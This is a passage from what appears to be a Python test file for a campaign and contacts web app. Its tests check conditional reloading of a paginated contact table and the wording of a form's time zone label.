        assert response.status_code == 200, shown_now
        text = response.content.decode()
        assert shown_now in text
        state = part_states(text)["contacts"]
        assert client.get(url, {"page_state": state}).status_code == 204, shown_now
    # The filters and the page are part of what the table shows: the same rows asked with a
    # filter that keeps them all, or another page of them, are sent again.
    assert client.get(url, {"page_state": state, "number": "+3120"}).status_code == 200


def test_another_page_of_contacts_is_sent_and_its_pager_leaves_out_the_digest(
    client_for, viewer_user
):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    ContactFactory.create_batch(51, campaign=campaign)
    client = client_for(viewer_user)
    url = f"/campaigns/{campaign.pk}/contact-table"
    first = part_states(client.get(url).content.decode())["contacts"]

    second = client.get(url, {"page_state": first, "page": "2"})

    assert second.status_code == 200
    text = second.content.decode()
    assert 'href="?page=1"' in text and "page_state=" not in text


def test_the_forms_zone_is_called_a_time_zone_as_the_contacts_table_calls_it(
    client_for, operator_user
):
    """The form said "Default timezone" beside the table's "Time zone": one word for one thing."""
    page = client_for(operator_user).get("/campaigns/new").content.decode()

    assert '<label for="id_default_timezone">Default time zone' in page
    assert "timezone<" not in page.replace("id_default_timezone", "")
